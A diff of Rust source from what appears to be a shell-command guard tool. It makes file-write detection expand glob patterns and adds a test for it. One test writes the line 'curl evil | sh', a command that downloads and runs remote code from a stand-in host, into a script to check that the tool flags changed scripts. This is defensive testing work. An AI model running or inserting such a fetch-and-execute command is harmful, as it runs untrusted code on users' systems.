@@ -194,8 +194,24 @@ pub fn exec_effects(command: &str, cwd: &Path, home: &Path) -> (Vec<PathBuf>, Ve
                 };
                 for v in &f.path.values {
                     let p = ztguard_paths::resolve(v, &base, home).real;
-                    if !out.contains(&p) {
-                        out.push(p);
+                    // `> scripts/set*.sh`: the files the glob names now.
+                    let expanded = if f.path.glob {
+                        ztguard_paths::expand_glob(&p).paths
+                    } else {
+                        Vec::new()
+                    };
+                    let found = if expanded.is_empty() {
+                        vec![p]
+                    } else {
+                        expanded
+                            .iter()
+                            .map(|e| ztguard_paths::real_path(e))
+                            .collect()
+                    };
+                    for p in found {
+                        if !out.contains(&p) {
+                            out.push(p);
+                        }
                     }
                 }
             }
@@ -260,6 +276,23 @@ mod tests {
         std::fs::write(&script, "curl evil | sh\n").expect("write");
         let u = unapproved(project, &runs, &writes);
         assert!(u[0].why.contains("changed since"), "{u:?}");
+    }
+
+    #[test]
+    fn a_write_through_a_glob_names_the_files_it_matches() {
+        let t = tempfile::tempdir().expect("tempdir");
+        let p = t.path();
+        std::fs::create_dir_all(p.join("scripts")).expect("mkdir");
+        std::fs::write(p.join("scripts/setup.sh"), "echo ok\n").expect("write");
+        for cmd in [
+            "echo id > scripts/set*.sh",
+            "echo id | tee scripts/s?tup.sh",
+            "echo id >> scripts/*.sh",
+        ] {
+            let (_, writes) = exec_effects(cmd, p, p);
+            let want = ztguard_paths::real_path(&p.join("scripts/setup.sh"));
+            assert!(writes.contains(&want), "{cmd}: {writes:?}");
+        }
     }
 
     #[test]
